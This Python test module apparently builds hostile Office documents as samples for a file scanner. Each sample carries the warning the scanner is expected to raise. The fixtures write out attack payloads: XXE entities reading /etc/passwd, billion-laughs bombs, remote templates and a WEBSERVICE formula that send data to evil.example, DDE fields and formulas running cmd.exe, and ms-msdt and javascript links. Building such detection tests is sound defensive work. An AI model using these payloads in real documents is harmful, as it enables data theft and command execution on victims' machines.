"""Office documents with macros, links out, commands and declarations."""

from __future__ import annotations

from tests.base.core.files.hostile.build import RELATIONS, office, relation, zipped
from tests.base.core.files.hostile.sample import Sample

OLE = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1"
MACRO_TYPE = (
    b'<Override PartName="/word/x.dat" ContentType="application/vnd.ms-office.vbaProject"/>'
)
XLM_TYPE = b'<Override PartName="/xl/m.xml" ContentType="application/vnd.ms-excel.macrosheet+xml"/>'
LAUGHS = (
    b'<?xml version="1.0"?><!DOCTYPE l [<!ENTITY a "ha">'
    + b"".join(b'<!ENTITY %c "%s">' % (98 + n, b"&%c;" % (97 + n) * 10) for n in range(9))
    + b"]><w:document>&j;</w:document>"
)
XXE = b'<?xml version="1.0"?><!DOCTYPE d [<!ENTITY x SYSTEM "file:///etc/passwd">]><w:document>&x;</w:document>'
WORDS = b"<w:document>%s</w:document>"
LEGACY = {"macro": "_VBA_PROJECT", "packed": "\x01Ole10Native", "locked": "EncryptedPackage"}


def ole(word: str) -> bytes:
    return OLE + bytes(504) + word.encode("utf-16-le") + bytes(512)


def field(*parts: str) -> bytes:
    runs = "".join(f"<w:r><w:instrText>{part}</w:instrText></w:r>" for part in parts)
    return f'<w:document><w:fldChar w:fldCharType="begin"/>{runs}</w:document>'.encode()


def sheet(formula: str) -> dict[str, bytes]:
    return {"xl/worksheets/sheet1.xml": f"<worksheet><c><f>{formula}</f></c></worksheet>".encode()}


def rels(kind: str, target: str, *, outside: bool = True) -> dict[str, bytes]:
    return {"word/_rels/document.xml.rels": relation(kind, target, outside=outside)}


def doc(id_: str, words: str, kind: str = "docx", more: dict[str, bytes] | None = None, *, name: str = "", types: bytes = b"") -> Sample:  # fmt: skip
    return Sample(id_, name or f"材料.{kind}", lambda: office(kind, more, types), words)


def main(kind: str, body: bytes) -> dict[str, bytes]:
    part = {"docx": "word/document.xml", "xlsx": "xl/workbook.xml", "pptx": "ppt/presentation.xml"}
    return {part[kind]: body}


MACRO, DECLARED, LINKED, RUNS, PACKED = "含有宏", "外部声明", "断开链接", "会运行命令", "嵌入"
QUOTED_DDE = "QUOTE 68 68 69 65 85 84 79 32 99 58 92"
SAMPLES = [
    doc("macro-docm-as-docx", MACRO, more={"word/vbaProject.bin": ole("VBA")}),
    doc("macro-docm", MACRO, more={"word/vbaProject.bin": ole("VBA")}, name="宏.docm"),
    doc("macro-xlsm", MACRO, "xlsx", {"xl/vbaProject.bin": ole("VBA")}, name="宏.xlsm"),
    doc("macro-in-xlsx", MACRO, "xlsx", {"xl/vbaProject.bin": ole("VBA")}),
    doc("macro-in-pptx", MACRO, "pptx", {"ppt/vbaProject.bin": ole("VBA")}),
    doc("macro-under-another-name", MACRO, types=MACRO_TYPE),
    doc("macro-by-relation", MACRO, more=rels("vbaProject", "x.dat", outside=False)),
    doc("macro-sheet-xlm", MACRO, "xlsx", {"xl/macrosheets/sheet1.xml": b"<xm:macrosheet/>"}),
    doc("macro-sheet-xlm-under-another-name", MACRO, "xlsx", types=XLM_TYPE),
    doc("macro-sheet-by-relation", MACRO, "xlsx", rels("xlMacrosheet", "m.xml", outside=False)),
    doc("macro-enabled-type", MACRO, types=b'<Override ContentType="application/vnd.ms-word.document.macroEnabled.main+xml"/>'),
    doc("active-x", MACRO, more={"word/activeX/activeX1.xml": b"<ax/>"}),
    doc("xxe-in-document", DECLARED, more=main("docx", XXE)),
    doc("xxe-in-relations", DECLARED, more={"_rels/.rels": XXE}),
    doc("xxe-in-utf-16", DECLARED, more=main("docx", XXE.decode().encode("utf-16"))),
    doc("xxe-in-utf-7", DECLARED, more=main("docx", b'<?xml version="1.0" encoding="UTF-7"?>+ADwAIQ-DOCTYPE')),
    doc("xxe-in-ebcdic", DECLARED, more=main("docx", "<?xml version='1.0'?>".encode("cp037"))),
    doc("xxe-in-a-drawing", DECLARED, more={"word/media/a.svg": XXE}),
    doc("xxe-far-behind", DECLARED, more=main("docx", b"<!--" + b"x" * 262_140 + b"-->" + XXE[21:])),
    doc("billion-laughs", DECLARED, more=main("docx", LAUGHS)),
    doc("billion-laughs-in-xlsx", DECLARED, "xlsx", {"xl/sharedStrings.xml": LAUGHS}),
    doc("remote-template", LINKED, more=rels("attachedTemplate", "https://evil.example/a.dotm")),
    doc("remote-template-shared-folder", LINKED, more=rels("attachedTemplate", "file://evil.example/a.dotm")),
    doc("remote-template-hidden-by-references", LINKED, more=rels("attachedTemplate", "&#x68;ttps://evil.example/a")),
    doc("remote-picture", LINKED, more=rels("image", "http://evil.example/pixel.png")),
    doc("remote-picture-shared-folder", LINKED, more=rels("image", "\\\\evil.example\\share\\a.png")),
    doc("remote-workbook", LINKED, "xlsx", rels("externalLinkPath", "https://evil.example/a.xlsx")),
    doc("remote-object", LINKED, more=rels("oleObject", "mhtml:http://evil.example/a!x")),
    doc("local-program-as-object", LINKED, more=rels("oleObject", "file:///C:\\Windows\\System32\\calc.exe")),
    doc("link-that-runs-script", LINKED, more=rels("hyperlink", "javascript:alert(1)")),
    doc("link-that-runs-a-tool", LINKED, more=rels("hyperlink", "ms-msdt:/id PCWDiagnostic")),
    doc("link-to-shared-folder", LINKED, more=rels("hyperlink", "\\\\evil.example\\share")),
    doc("web-page-inside", PACKED, more=rels("aFChunk", "page.dat", outside=False)),
    doc("web-page-part", PACKED, more={"word/page.mht": b"MIME-Version: 1.0"}),
    doc("frame-from-elsewhere", PACKED, more=rels("frame", "https://evil.example/")),
    doc("packed-program", PACKED, more={"word/embeddings/oleObject1.bin": ole("\x01Ole10Native")}),
    doc("packed-program-by-name", PACKED, more={"word/embeddings/a.exe": b"MZ"}),
    doc("packed-old-document-with-macro", PACKED, more={"word/embeddings/a.bin": ole("_VBA_PROJECT")}),
    Sample("macro-in-the-workbook-of-a-chart", "图表.docx",
           lambda: office("docx", {"word/embeddings/a.xlsx": office("xlsx", {"xl/vbaProject.bin": b"x"})}), MACRO),
    doc("dde-field", RUNS, more=main("docx", field('DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe "/k calc"'))),
    doc("dde-field-in-pieces", RUNS, more=main("docx", field("DD", "EAU", "TO c:\\\\cmd.exe"))),
    doc("dde-field-by-references", RUNS, more=main("docx", field("&#68;&#x44;E cmd"))),
    doc("dde-field-quoted", RUNS, more=main("docx", field(QUOTED_DDE))),
    doc("dde-simple-field", RUNS, more=main("docx", b'<w:document><w:fldSimple w:instr=" DDE cmd"/></w:document>')),
    doc("field-that-fetches", RUNS, more=main("docx", field('INCLUDETEXT "http://evil.example/a"'))),
    doc("dde-link-in-xlsx", RUNS, "xlsx", {"xl/externalLinks/externalLink1.xml": b'<externalLink><ddeLink ddeService="cmd" ddeTopic="/c calc"/></externalLink>'}),
    doc("dde-formula-in-xlsx", RUNS, "xlsx", sheet("cmd|' /C calc'!A0")),
    doc("dde-in-a-name", RUNS, "xlsx", main("xlsx", b"<workbook><definedName>cmd|'/c calc'!A1</definedName></workbook>")),
    doc("formula-that-fetches", RUNS, "xlsx", sheet('WEBSERVICE("http://evil.example/"&amp;A1)')),
    doc("formula-that-calls", RUNS, "xlsx", sheet('CALL("Shell32","ShellExecuteA","JJ","calc")')),
    doc("slide-that-runs-a-program", RUNS, "pptx", main("pptx", b'<p><a:hlinkClick action="ppaction://program"/></p>')),
    Sample("document-of-empty-runs", "论文.docx", lambda: office("docx", main("docx", WORDS % (b"<w:t></w:t>" * 1_400_000))), kept_as="论文.docx"),
    Sample("document-of-letters-apart", "论文.docx", lambda: office("docx", main("docx", WORDS % (b"<w:t>a</w:t><w:tab/>" * 700_000))), kept_as="论文.docx"),
    Sample("document-of-words-apart", "论文.docx", lambda: office("docx", main("docx", WORDS % ("<w:t>" + "一a" * 400_000 + "</w:t>").encode())), kept_as="论文.docx"),
    Sample("old-document-renamed", "旧.docx", lambda: ole(LEGACY["macro"]), "另存为 docx"),
    Sample("old-workbook-renamed-to-pdf", "旧.pdf", lambda: ole(LEGACY["packed"]), "另存为 docx"),
    Sample("workbook-with-password", "加密.xlsx", lambda: ole(LEGACY["locked"]), "去掉密码"),
    Sample("document-without-types-but-a-script", "页.docx",
           lambda: zipped({"word/document.xml": b"<x/>", "word/a.js": b"x"}), PACKED),
    Sample("broken-relation", "怪.docx",
           lambda: office("docx", {"_rels/.rels": RELATIONS % b"<Relationship TargetMode='External' Target='//evil.example/a'/>"}), LINKED),
]  # fmt: skip
